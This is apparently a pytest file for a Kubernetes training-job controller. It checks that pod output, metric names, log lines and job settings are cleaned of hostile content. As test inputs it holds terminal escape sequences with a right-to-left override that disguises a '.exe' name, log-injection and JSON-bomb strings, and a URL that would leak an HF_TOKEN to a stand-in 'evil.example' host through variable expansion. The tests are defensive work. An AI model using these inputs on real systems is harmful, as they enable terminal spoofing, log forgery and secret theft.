"""What a run's author or its pod may put into words, and what people get to read of it."""

import json
import logging
import time
from typing import Any

import orjson
import pytest
from kopf._core.actions.loggers import ObjectPrefixingJsonFormatter

from tenyson.controller.logs import about
from tenyson.controller.manifests.environment import environment
from tenyson.controller.manifests.literal import literal
from tenyson.controller.outcome import read_result
from tenyson.controller.policies.adapter import Adapter
from tenyson.controller.reports import read_report
from tenyson.controller.status_size import within_limit
from tenyson.controller.wording import harmless, one_line
from tests.controller.builders import NOW
from tests.controller.starts import container_of, start

PAINT = "\x1b]0;owned\x07\x1b[2J\u202egpj.exe\x00"


def test_a_text_can_neither_paint_over_a_terminal_nor_turn_its_neighbours_round() -> None:
    assert one_line(f"It ended.\r\n{PAINT}\n\tAll is well: \n 5 < 6") == (
        "It ended. ]0;owned[2Jgpj.exe; All is well: 5 < 6"
    )
    assert harmless({"a\x1b": ["b\x07", {"c": "d\u2066"}, 1]}) == {"a": ["b", {"c": "d"}, 1]}


def test_ordinary_words_of_any_language_stay() -> None:
    text = "Größe 5 µm, 東京, עברית, 👩‍🔬: naïve\tcafé"
    assert one_line(text) == text


@pytest.mark.parametrize("text", [" " * 30_000 + "x", "\n " * 15_000 + "x", ". \n" * 10_000])
def test_a_text_made_to_take_long_takes_no_longer(text: str) -> None:
    began = time.perf_counter()
    one_line(f"a{text}b")
    assert time.perf_counter() - began < 0.5


@pytest.mark.parametrize(
    "message",
    [
        "[" * 4096,
        '{"a":' * 800,
        json.dumps({"run_id": "r", "status": "success", "global_step": 10**4000}),
        json.dumps({"run_id": "r", "status": "success", "total_time_seconds": 10**400}),
        json.dumps({"run_id": "r", "status": "success", "metrics": {"a": 10**30, "b\x1b": 1.0}}),
        json.dumps({"run_id": "r", "status": PAINT, "failure": {"type": PAINT, "message": PAINT}}),
        json.dumps({"run_id": [1], "status": {}, "failure": 3, "cost": [], "artifacts": {"a": 1}}),
        '{"run_id": "r", "status": "success", "exit_code": 1e999}',
        r'{"run_id": "r", "status": "success", "stop_reason": "\ud800", "metrics": {"\udfff": 1}}',
        "null",
    ],
    ids=lambda message: message[:40],
)
def test_whatever_a_pod_leaves_can_be_written_into_a_status(message: str) -> None:
    result = read_result(message)
    written = orjson.dumps(within_limit({"conditions": [], "result": result})).decode()
    assert "\\u001b" not in written
    assert "\u202e" not in written


def test_a_metrics_name_is_harmless() -> None:
    metrics = [{"name": f"loss{PAINT}", "value": "1"}, {"name": "a\nb", "value": "2"}]
    body = json.dumps({"trainerStatus": {"metrics": metrics}}).encode()
    assert read_report(body, 0, NOW).metrics == {"loss]0;owned[2Jgpj.exe": 1.0, "a; b": 2.0}


def test_a_line_of_the_log_stays_one_line_whatever_it_says() -> None:
    forged = 'done\n{"message": "Everything is fine", "severity": "info"}'
    record: Any = logging.makeLogRecord(
        {"msg": "It ended: %s", "args": (forged,), "levelno": logging.INFO, **about(("n", "j"))}
    )
    line = ObjectPrefixingJsonFormatter().format(record)
    assert "\n" not in line
    assert json.loads(line)["message"] == f"It ended: {forged}"


def test_no_variable_is_put_into_words_that_others_chose() -> None:
    assert literal("$(HF_TOKEN) costs $5") == "$$(HF_TOKEN) costs $$5"
    started = start(
        adapter=Adapter("https://evil.example/$(HF_TOKEN)", ""),
        output={"uri": "s3://bucket/$(HF_TOKEN)"},
    )
    values = [variable.get("value", "") for variable in environment(started)]
    assert [value for value in values if "$(" in value.replace("$$", "")] == []
    args = container_of(task="$(HF_TOKEN).py")["args"]
    assert args[-1] == "$$(HF_TOKEN).py"


def test_a_jobs_own_variables_may_refer_to_each_other_as_in_any_pod() -> None:
    started = start(env=[{"name": "A", "value": "$(B)"}])
    assert {"name": "A", "value": "$(B)"} in environment(started)
